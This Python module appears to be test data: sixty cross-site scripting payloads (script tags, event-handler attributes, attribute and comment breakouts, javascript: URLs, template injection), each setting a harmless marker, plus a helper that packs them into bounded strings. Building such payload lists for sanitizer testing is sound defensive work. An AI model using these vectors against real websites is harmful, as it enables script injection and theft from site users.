"""Sixty texts that would run as a program on a page that takes them for more than text.

Each does `stolen=1`, none is longer than a tag may be, and none needs anything from elsewhere.
"""

from __future__ import annotations

STRINGS = (
    # elements that run by being there
    "<script>stolen=1</script>",
    "<SCRIPT>stolen=1</SCRIPT>",
    "<script >stolen=1</script >",
    "<scr<script>ipt>stolen=1</script>",
    "<script>stolen=1//",
    "<script src=data:,stolen=1></script>",
    "<script type=module>window.stolen=1</script>",
    "<svg><script>stolen=1</script></svg>",
    "<svg><script href=data:,stolen=1 />",
    "<math><script>stolen=1</script></math>",
    "<noscript><p title='</noscript><script>stolen=1</script>'>",
    "<template><script>stolen=1</script></template>",
    # elements that run when they are loaded, or fail to
    "<img src=x onerror=stolen=1>",
    "<img src=x onerror='stolen=1'>",
    '<img src="x" onerror="stolen=1">',
    "<img/src=x/onerror=stolen=1>",
    "<IMG SRC=x OnErRoR=stolen=1>",
    "<img src=x onerror=&#115;tolen=1>",
    "<img src=x onerror=\u2028stolen=1>",
    "<img srcset=x onerror=stolen=1>",
    "<image src=x onerror=stolen=1>",
    "<svg onload=stolen=1>",
    "<svg/onload=stolen=1>",
    "<svg><image href=x onerror=stolen=1>",
    "<svg><animate onbegin=stolen=1 attributeName=x dur=1s>",
    "<svg><set onbegin=stolen=1 attributeName=x>",
    "<body onload=stolen=1>",
    "<video><source onerror=stolen=1></video>",
    "<audio src=x onerror=stolen=1>",
    "<object data=data:text/html,<script>stolen=1</script>>",
    "<embed src=data:text/html,<script>stolen=1</script>>",
    "<iframe srcdoc='<script>parent.stolen=1</script>'></iframe>",
    "<iframe src=javascript:parent.stolen=1></iframe>",
    "<link rel=stylesheet href=x onerror=stolen=1>",
    "<style onload=stolen=1></style>",
    "<input autofocus onfocus=stolen=1>",
    "<select autofocus onfocus=stolen=1>",
    "<textarea autofocus onfocus=stolen=1>",
    "<details open ontoggle=stolen=1>",
    "<marquee onstart=stolen=1>",
    "<meta http-equiv=refresh content='0;javascript:stolen=1'>",
    "<form action=javascript:stolen=1><input type=submit></form>",
    "<math href=javascript:stolen=1>x</math>",
    "<base href=javascript:stolen=1//>",
    # out of an attribute, a script or a comment
    '"><img src=x onerror=stolen=1>',
    "'><img src=x onerror=stolen=1>",
    '" autofocus onfocus=stolen=1 x="',
    "' onmouseover=stolen=1 x='",
    "--><script>stolen=1</script>",
    "]]><script>stolen=1</script>",
    "</title><script>stolen=1</script>",
    "</textarea><script>stolen=1</script>",
    "</style><script>stolen=1</script>",
    "';stolen=1//",
    "`${stolen=1}`",
    # addresses and templates
    "javascript:stolen=1",
    "JaVaScRiPt:stolen=1//%0Astolen=1",
    "data:text/html,<script>opener.stolen=1</script>",
    "{{constructor.constructor('stolen=1')()}}",
    "\u202e<b onmouseover=stolen=1>evil</b>",
)
MARK = "stolen=1"


def packed(most: int, between: str = " ") -> list[str]:
    """All of them, in as few texts of at most `most` characters as that takes."""
    found = [""]
    for one in STRINGS:
        if found[-1] and len(found[-1]) + len(between) + len(one) > most:
            found.append("")
        found[-1] += (between if found[-1] else "") + one
    return found
